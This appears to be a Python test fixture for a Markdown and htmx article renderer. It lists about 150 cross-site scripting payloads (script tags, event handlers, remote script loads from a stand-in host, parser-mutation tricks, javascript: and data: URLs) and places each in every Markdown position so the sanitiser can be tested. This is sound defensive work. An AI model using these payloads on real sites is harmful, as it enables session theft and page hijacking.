"""What an attacker types: a hundred ways to make a reader's browser act.

In each, RUN calls the page's `zapped` with the payload's number, PATH is an address here, AWAY one elsewhere, and ZAP a
word: whatever a payload leaves in an attribute or an address is known by "zapped".
"""

from __future__ import annotations

MARK = "zapped"

TAGS = (
    "<script>RUN</script>",
    "<SCRIPT SRC=//AWAY/x.js></SCRIPT>",
    "<ScRiPt>RUN</sCrIpT >",
    "<script\t>RUN</script\n>",
    "<script/ZAP/src='data:text/javascript,RUN'></script>",
    "<<script>RUN;//<</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script x>RUN</script y>",
    "</script><script>RUN</script>",
    "<script type=module>RUN</script>",
    "<scr\x00ipt>RUN</scr\x00ipt>",
    "<%00script>RUN</script>",
    "\ufeff<script>RUN</script>",
    "＜script＞RUN＜/script＞",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;script&#62;RUN&#60;/script&#62;",
    "&#x3c;img src=x onerror=RUN&#x3e;",
    "\\<script\\>RUN\\</script\\>",
    "<script>RUN",
    "<script src=//AWAY/x.js",
    "%3Cscript%3ERUN%3C/script%3E",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
)
HANDLERS = (
    "<img src=x onerror=RUN>",
    "<IMG SRC=x ONERROR=RUN//",
    "<img src=x:x onerror\n=\nRUN>",
    "<img/src/onerror=RUN>",
    "<img src='x' onerror='&#122;&#97;&#112;&#40;1&#41;' class=ZAP>",
    '<img """><script>RUN</script>">',
    "<body onload=RUN>",
    "<svg/onload=RUN>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<details open ontoggle=RUN>x</details>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN><option>x</select>",
    "<marquee onstart=RUN>x</marquee>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN></audio>",
    "<div onmouseover=RUN onclick=RUN onpointerenter=RUN>ZAP</div>",
    "<p tabindex=1 onfocus=RUN id=ZAP>x</p>",
    "<b style='animation:rise 1s' onanimationstart=RUN>x</b>",
    "<button popovertarget=ZAP onclick=RUN>x</button><i popover id=ZAP onbeforetoggle=RUN>x</i>",
    "<xss contenteditable onbeforeinput=RUN accesskey=x>ZAP</xss>",
    "<a\x0conclick=RUN href=PATH>x</a>",
    "<iframe onload=RUN></iframe>",
)
EMBEDDING = (
    "<iframe src=javascript:RUN></iframe>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<object data='data:text/html,<script>parent.RUN</script>'></object>",
    "<embed src=javascript:RUN>",
    "<base href='https://AWAY/'>",
    "<link rel=stylesheet href=https://AWAY/x.css>",
    "<link rel=prefetch href=https://AWAY/x>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<meta http-equiv='Content-Security-Policy' content='script-src ZAP'>",
    "<form action=javascript:RUN><button>x</button></form>",
    "<form id=ZAP></form><button form=ZAP formaction=javascript:RUN>x</button>",
    "<isindex action=javascript:RUN type=image>",
    "<style>@import '//AWAY/x.css';</style>",
    "<style>*{background:url(https://AWAY/x)}</style>",
    "<p style='background:url(https://AWAY/x);width:expression(RUN)'>x</p>",
    "<p style='position:fixed;inset:0' class='ZAP toast'>x</p>",
    "<img srcset='https://AWAY/x 1x' src=PATH>",
    "<picture><source srcset=https://AWAY/x><img src=https://AWAY/x></picture>",
    "<link rel=preload as=image imagesrcset='https://AWAY/x 1x'>",
    "<table background=https://AWAY/x><td background=javascript:RUN>x</table>",
    "<input type=image src=https://AWAY/x>",
    "<video poster=https://AWAY/x></video>",
    "<a href=PATH ping=https://AWAY/x target=ZAP>x</a>",
    "<portal src=https://AWAY/></portal>",
    "<frameset><frame src=javascript:RUN></frameset>",
    "<applet code=ZAP archive=https://AWAY/x></applet>",
)
BREAKING_OUT = (
    '"><img src=x onerror=RUN>',
    "'><svg onload=RUN>",
    '" onmouseover=RUN x="',
    "' onmouseover=RUN x='",
    "`onmouseover=RUN`",
    "--><script>RUN</script>",
    "]]><script>RUN</script>",
    "<![CDATA[><img src=x onerror=RUN>]]>",
    "<!--><img src=x onerror=RUN>-->",
    "<?xml version='1.0'?><img src=x onerror=RUN>",
    "</title></style></textarea><script>RUN</script>",
    "</template><img src=x onerror=RUN>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<xmp><p title='</xmp><img src=x onerror=RUN>'>",
    "<textarea><p title='</textarea><img src=x onerror=RUN>'>",
    "<template shadowrootmode=open><slot onslotchange=RUN></slot></template>",
    "<plaintext><img src=x onerror=RUN>",
    "{{ZAP}}${RUN}#{RUN}<%= RUN %>{% load ZAP %}",
)
MUTATING = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=RUN&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=RUN>'>",
    "<math><mi//xlink:href='data:x,<script>RUN</script>'>x",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=RUN src>'>",
    "<svg><foreignObject><iframe src=javascript:RUN></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><image href=1 onerror=RUN></svg>#x'/></svg>",
    "<svg><a xlink:href=javascript:RUN><text y=20>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:RUN /><script href=data:,RUN /></svg>",
    "<math href=javascript:RUN><mtext>x</mtext></math>",
    "<math><annotation-xml encoding='text/html'><script>RUN</script></annotation-xml></math>",
    "<select><noembed></select><script>RUN</script>",
)
OUR_OWN = (
    "<div hx-get=PATH hx-trigger=load hx-swap=outerHTML>x</div>",
    "<div data-hx-get=PATH data-hx-trigger='load, intersect'>x</div>",
    "<a hx-boost=true hx-post=PATH href=PATH>x</a>",
    "<p hx-on:click=RUN hx-on::load=RUN hx-vals='js:{x:RUN}' hx-ext=ZAP>x</p>",
    "<p data-check=ZAP data-heading=ZAP>x</p>",
    "<a data-dialog=ZAP data-close=ZAP href=PATH>x</a>",
    "<button data-copy-text=ZAP data-copy=ZAP hidden>x</button>",
    "<form data-editor data-save=PATH data-submit-key=ZAP data-unsaved=ZAP></form>",
    "<time data-time=ZAP datetime=ZAP>x</time><p data-tabs=ZAP data-lines=ZAP:1>x</p>",
    "<input name=csrfmiddlewaretoken value=ZAP form=ZAP><img name=ZAP id=htmx>",
)
ADDRESSES = (
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "javascript&colon;RUN",
    "java&#115;cript:RUN",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;RUN",
    "jav&#x09;ascript:RUN",
    "jav&NewLine;ascript:RUN",
    "java\tscript:RUN",
    "java\x00script:RUN",
    "\x01javascript:RUN",
    "&#14;javascript:RUN",
    "%6Aavascript:RUN",
    "javascript://x%0ARUN",
    "javascript\\:RUN",
    "\u200bjavascript:RUN",
    "\u00a0javascript:RUN",
    "javascript\uff1aRUN",
    "vbscript:msgbox(ZAP)",
    "livescript:RUN",
    "data:text/html;base64,PHNjcmlwdD56YXA8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg/onload=RUN>",
    "blob:https://AWAY/x",
    "filesystem:https://AWAY/x",
    "view-source:javascript:RUN",
    "//AWAY/x",
    "\\\\AWAY\\x",
    "/\\AWAY/x",
    "https:AWAY",
    "file:///etc/passwd#ZAP",
    '#" onclick=RUN x="',
    'x.md#"><script>RUN</script>',
    '?" onmouseover="RUN',
)


def _numbered(number: int, text: str) -> str:
    words = {"RUN": f"{MARK}({number})", "PATH": f"/{MARK}-{number}", "AWAY": f"{MARK}-{number}.invalid"}
    for word, meant in words.items():
        text = text.replace(word, meant)
    return text.replace("ZAP", f"{MARK}-{number}")


MARKUP = (*TAGS, *HANDLERS, *EMBEDDING, *BREAKING_OUT, *MUTATING, *OUR_OWN)
PAYLOADS = tuple(_numbered(number, text) for number, text in enumerate((*MARKUP, *ADDRESSES)))

# The places of an article where a payload P can stand; N is its number.
PLACES = (
    "P",
    "    P",
    "`P`",
    "*P* **P**",
    "> P",
    "- P\n- [ ] P",
    "[words](P)",
    "[words](<P> 'P')",
    '[words](https://example.org/ "P")',
    "[P](limits.md)",
    "[words][zappedN]\n\n[zappedN]: P 'P'",
    "<P>",
    "![P](P)",
    '![words](/static/img/favicon.svg "P")',
    '![words P](/static/img/favicon.svg" onerror="P)',
    "| P | a |\n|:--|--:|\n| P | b |",
    "```P\nP\n```",
    "~~~html P\nP\n~~~",
    "P[^N P]\n\n[^N P]: P",
    "words[^zedN]\n\n[^zedN]: P",
    "P\n:   P",
    '!!! warning "P"\n    P',
    "!!! P\n    P",
    "## P",
    "## words {#zappedN P}",
    "words {: P }",
    "words\n{: onclick=zapped(N) hx-get=/zapped-N style=P }",
    "*words*{: P }",
    "*[zapped]: P",
    "https://example.org/P",
)
# These say something that keeps a text from being published; they are previewed and reviewed all the same.
UNPUBLISHED = (
    "::: check P",
    "::: P",
    "## A {#P}",
    "![](P)",
    "```html\nP",
    "---\ntitle: P\n---\nP",
    "    ::: P\n::: check",
)


def cases(places: tuple[str, ...] = PLACES) -> list[str]:
    """Every payload in every place."""
    return [
        place.replace("P", payload).replace("N", str(number))
        for number, payload in enumerate(PAYLOADS)
        for place in places
    ]
